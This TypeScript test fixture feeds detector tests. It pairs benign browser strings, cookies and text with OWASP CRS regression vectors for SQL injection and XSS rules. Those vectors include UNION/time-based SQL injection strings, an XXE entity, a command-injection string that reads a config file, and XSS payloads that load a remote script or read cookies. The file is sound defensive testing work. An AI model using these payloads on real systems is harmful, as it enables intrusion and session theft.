/**
 * Shared inputs for the detector tests: benign values every detector must pass, and the CRS regression
 * vectors for the libinjection-backed rules, already decoded the way the rules' transformations
 * (urlDecodeUni, htmlEntityDecode, removeNulls) and the body parsers would hand them to the operator.
 * Sources: /work/shared/crs/tests/regression/tests/REQUEST-942-*.../942100.yaml, 942101.yaml,
 * REQUEST-941-*.../941100.yaml, 941101.yaml, REQUEST-999-.../999999.yml (Apache-2.0).
 */

/** Real browser / bot User-Agent strings (CRS 999999.yml "no rule must fire" stages). */
export const USER_AGENTS: readonly string[] = [
  'OWASP CRS test agent',
  'Links (2.3pre1; Linux 2.6.38-8-generic x86_64; 170x48)',
  'Moneroprice/1.0 (+https://example.com/bot)',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36 OPR/92.0.0.0',
  'Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/20.0 Chrome/106.0.5249.126 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 14; PGT-N19 Build/HONORPGT-N49; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.180 Mobile Safari/537.36',
  'Mozilla/5.0 (Linux; Android 4.4.3) AppleWebKit/537.36 (KHTML, like Gecko) Silk/89.4.7 like Chrome/89.0.4389.72 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36 OPR/124.0.0.0 (Edition developer)',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Safari/605.1.15',
  'Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) AppleWebKit/534.28.2 (KHTML, like Gecko) Version/4.0 Safari/534.28.2',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Electron/23.0.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 16_6_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/121.0 Mobile/15E148 Safari/605.1.15',
  'Snap URL Preview Service; bot; snapchat; https://developers.snap.com/robots',
  'iPhone (Nextcloud iOS)',
  'mozilla/5.0(linux android 12 sm-a528b build/sp1a.210812.016 wv) applewebkit/537.36(khtml like gecko) version/4.0 chrome/110.0.5481.154 mobile safari/537.36 [fb_iab/fb4a fbav/403.0.0.27.81 ]',
  'curl/8.5.0',
  'python-requests/2.31.0',
];

/** Cookie values (URL-decoded as urlDecodeUni would) from 999999.yml plus common ones. */
export const COOKIE_VALUES: readonly string[] = [
  'GA1.2.123.456',
  '_ga=GA1.2.123.456',
  'GS2.2.s1764611073$o1$g1$t1764658893$j60$l0$h0',
  'UID=000012d082717558:T=1764611074:RT=1764658644:S=ALNI_MZT8IYGZn-gzY4VcoZCUdj-puHO8g',
  'ID=fde58d67738a756e:T=1764611074:RT=1764658644:S=AA-AfjY9P64oWMAGjBASJnvMPLRa',
  '[null,null,null,null,null,null,[[32,"[\\"17891cd2-fd1c-416b-a0c7-be2127c321b1\\",[1764611074,138000000]]"]]]',
  '[["AKsRol_ideNgYUUm5zDfLNW5aUnVpEV35DrkuADzOiLkFzmmlwqbIY0ixljWzNrg-2OViaQ6PV6L009ApMHhoM2KBmqr9_WyP_JZsrXnVzK_afbQbxpcsgKPcHbzI7O9vScEZsE9oYTINJ4PdrioYYUI_IEprTkxUw=="]]',
  '3a71909b-1723-4c47-bc2d-dbd9af426825',
  'w6bj73^1764658893198^1493^1^i.clarity.ms/collect',
  '1tmmozr^2^g1i^0^2161',
  '2.1764658902.5-f18ccc76569ad0b8e67406a3a3d634e0-6763652d6575726f70652d7765737431-0',
  'Tue, 02 Dec 2025 07:01:38 GMT',
  'sessionid=abc123; csrftoken=XyZ789; theme=dark',
  'eyJ1c2VyIjoiam9obiJ9--a1b2c3d4e5',
];

/** Benign values that neither detector may flag. */
export const BENIGN_COMMON: readonly string[] = [
  "O'Brien",
  "it's a nice day",
  'select a plan',
  'Select your country',
  "rock 'n' roll",
  '1 + 1 = 2',
  'drop-down menu',
  'Where are you from?',
  'union station',
  'a <b> tag',
  '5 < 6 and 7 > 3',
  'I <3 you',
  'john.doe+news@example.co.uk',
  "o'neil@example.com",
  'https://example.com/a?b=c&d=e',
  'http://www.coreruleset.org',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
  'SGVsbG8sIFdvcmxkISBUaGlzIGlzIGEgYmFzZTY0IGJsb2Iu+/0123456789==',
  '123e4567-e89b-12d3-a456-426614174000',
  '{"a":1}',
  '{"name":"O\'Brien","age":30,"tags":["x","y"]}',
  '{"profile":"test"}',
  '# Heading\n\n- item one\n- item two\n\n**bold** and _italic_ and `code`',
  '[link text](https://example.com/page?x=1) > quoted line',
  'btn btn-primary col-md-6 text-center d-none d-lg-block',
  'Tom and Jerry',
  'salt and pepper',
  'this or that',
  '2 or 3 days',
  '1 or 2',
  'true or false',
  'R&D, AT&T, Q&A',
  '$100 - $200',
  'C:\\Users\\me\\Documents\\report-2024-final.pdf',
  '/usr/local/bin/node',
  '#hashtag #another',
  'C# and F# developers',
  '50% off -- today only',
  'a=1&b=2&c=3',
  '2024-01-01T10:30:00Z',
  '+1 (555) 123-4567',
  'version 2.0.1',
  "Don't stop believin'",
  "'quoted'",
  '"double quoted"',
  'He said "yes" and left',
  "Men's and women's sizes",
  "The '80s or '90s",
  "I'm here; drop me a line",
  "Let's go; select a seat",
  'Hello; select an option',
  'Please update your profile',
  'Exec summary',
  'Declare war',
  'order by phone',
  'Shutdown',
  'sleep well',
  'sleep (8 hours)',
  'Grant Thornton LLP',
  'insert coin',
  'delete my account',
  'having fun',
  'null and void',
  '1=1',
  'x >= 10 && y <= 20',
  'width: calc(100% - 10px); color: rgba(0,0,0,0.5)',
  'List<String> x = new ArrayList<>();',
  "['a','b']",
  "5' 10\" tall",
  'once upon a time, online',
  'javascript: the good parts',
  '<p>Hello</p>',
  '<b>bold</b> and <i>italic</i>',
  '<a href="https://example.com/">a link</a>',
  '<img src="cat.png" alt="a cat">',
  'x < y > z',
  '<<>> <> </>',
  '<-- back | next -->',
  'Price: 5 -- 10 EUR',
];

export interface CrsVector {
  readonly id: string;
  readonly value: string;
}

/** 942100 (ARGS, XML attribute) and 942101 (REQUEST_FILENAME) positive stages. */
export const CRS_SQLI_POSITIVE: readonly CrsVector[] = [
  { id: '942100-1', value: '1234 OR 1=1' },
  { id: '942100-2', value: "-1839' or '1'='1" },
  { id: '942100-3', value: '-1839" or "1"="2' },
  { id: '942100-4', value: "2010-01-01'+sleep(20.to_i)+'" },
  { id: '942100-5', value: "EmptyValue' and 526=527" },
  { id: '942100-6', value: "foo') UNION ALL select NULL --" },
  { id: '942100-7', value: "foo')waitfor delay'5:0:20'--" },
  { id: '942100-8', value: "JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --" },
  { id: '942100-9', value: "/path/to/file/unitests.txt') UNION ALL select NULL --" },
  {
    id: '942100-10 (whole body)',
    value:
      '1\'||(select extractvalue(xmltype(\'<?xml version="1.1" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % toyop SYSTEM "https://coreruleset.org/">%toyop;',
  },
  { id: '942100-10 (ARGS_NAMES)', value: "1'||(select extractvalue(xmltype('<?xml version" },
  { id: '942100-11', value: 'sleep(20)' },
  { id: '942100-12', value: 'unittests@coreruleset.org" sleep(10.to_i) "' },
  { id: '942100-13', value: '" | type %SystemDrive%\\\\config.ini | "' },
  { id: '942100-14', value: '"unittests@coreruleset.org"\')) and (select*from(select(sleep(5)))x) --' },
  { id: '942100-15 (XML attribute)', value: '1234 OR 1=1' },
  { id: '942101-1', value: '/post/1234 OR 1=1' },
  { id: '942101-2', value: "/post/2010-01-01'+sleep(20.to_i)+'" },
  { id: '942101-3', value: "/post/EmptyValue' and 526=527" },
  { id: '942101-4', value: "/post/foo')waitfor delay'5:0:20'--" },
  { id: '942101-5', value: '/post/sleep(20)' },
  { id: '942101-6', value: '/post/unittests@coreruleset.org" sleep(10.to_i) "' },
  { id: '942101-7', value: "/post/foo/24'union all select 1,2,3 from aa" },
  { id: '942101-8', value: "/post/foo/24'union all select 1,2,3 from aa/bar" },
  { id: '942101-9', value: '/post/*/*/2 union all/bar' },
];

/** 942101 negative stages (REQUEST_FILENAME). */
export const CRS_SQLI_NEGATIVE: readonly CrsVector[] = [
  { id: '942101-10', value: "/post/foo/9'union all/bar" },
  { id: '942101-11', value: '/post/foo/24 union all select 1,2,3 from aa/bar' },
];

const XSS_941100_1 =
  '<script xmlns="http://www.w3.org/1999/xhtml">setTimeout("top.frame2.location="javascript:(function () {var x = document.createElement(\\\\"script\\\\");x.src = \\\\"//sdl.me/popup.js?//\\\\";document.childNodes\\\\[0\\\\].appendChild(x);}());"",1000)</script>';

/** 941100 (ARGS, User-Agent, XML attribute) and 941101 (Referer, REQUEST_FILENAME) positive stages. */
export const CRS_XSS_POSITIVE: readonly CrsVector[] = [
  { id: '941100-1', value: XSS_941100_1 },
  { id: '941100-2', value: '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />' },
  { id: '941100-3', value: '/char_test?mime=text/xml&body=<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />' },
  { id: '941100-6', value: '<xss onbeforehellfreezes=alerw(1)>' },
  { id: '941100-7 (XML attribute, after XML entity decoding)', value: XSS_941100_1 },
  { id: '941101-1', value: 'www.github.com<script><img><iframe>' },
  { id: '941101-2', value: '/get/"onmouseover=\'prompt(document.cookie)\'"' },
  { id: '941101-3', value: '/get/index.php/<svg/onload=alert()' },
];

/** 941100 negative stages (User-Agent and Referer of test 4). */
export const CRS_XSS_NEGATIVE: readonly CrsVector[] = [
  { id: '941100-4 (User-Agent)', value: 'OWASP CRS test agent' },
  { id: '941100-4 (Referer)', value: 'http://www.coreruleset.org' },
];
